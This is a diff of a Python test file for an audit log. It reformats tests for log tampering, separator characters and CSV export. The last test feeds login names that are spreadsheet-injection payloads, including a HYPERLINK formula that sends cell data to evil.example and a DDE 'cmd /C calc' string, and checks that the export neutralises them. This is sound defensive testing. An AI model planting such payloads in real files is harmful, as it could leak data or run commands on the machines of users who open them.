@@ -73,8 +73,7 @@ def legacy(recs: list[dict]) -> list[bytes]:
 
 
 def old_recs(n: int) -> list[dict]:
-    return [{"ts": f"2026-01-0{i + 1}T08:00:00+00:00", "who": f"old{i}", "action": "login", "area": "", "detail": ""}
-            for i in range(n)]
+    return [{"ts": f"2026-01-0{i + 1}T08:00:00+00:00", "who": f"old{i}", "action": "login", "area": "", "detail": ""} for i in range(n)]
 
 
 # each case: what is done to the five-line log, and the line verify must name (6 = a line cut off the end)
@@ -99,8 +98,10 @@ TAMPERING = {
     "delete the log": (lambda ls: audit.path().unlink(), 1),
     "delete the anchor": (lambda ls: audit.anchor_path().unlink(), 1),
     "damage the anchor": (lambda ls: audit.anchor_path().write_text("{oops"), 1),
-    "roll the anchor back": (lambda ls: audit.anchor_path().write_text(json.dumps(
-        json.loads(audit.anchor_path().read_text()) | {"count": 4})), 5),
+    "roll the anchor back": (
+        lambda ls: audit.anchor_path().write_text(json.dumps(json.loads(audit.anchor_path().read_text()) | {"count": 4})),
+        5,
+    ),
 }
 
 
@@ -175,8 +176,7 @@ def test_an_old_unkeyed_log_is_read_and_carried_on(log_env):
     assert audit.verify() is None
 
 
-SEPARATORS = ["\u2028", "\u0085", "\u2029", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x00", "\u202e", "\ufeff",
-              "\ud800", "\U000e0041"]
+SEPARATORS = ["\u2028", "\u0085", "\u2029", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x00", "\u202e", "\ufeff", "\ud800", "\U000e0041"]
 
 
 @pytest.mark.parametrize("sep", SEPARATORS, ids=[f"U+{ord(s[0]):04X}" for s in SEPARATORS])
@@ -267,8 +267,9 @@ def test_sign_in_works_when_the_log_cannot_be_written(fx, log_env, monkeypatch):
     auth.THROTTLE._fails.clear()
 
 
-@pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
-                                     "-2+3", "@SUM(1+1)", "\t=1+1"])
+@pytest.mark.parametrize(
+    "payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"]
+)
 def test_injected_login_names_are_neutralised_in_the_csv(log_env, payload):
     assert audit.log(payload, "login_failed", detail=payload)
     data = exports.csv_bytes(audit.table(audit.read(), "zh"))
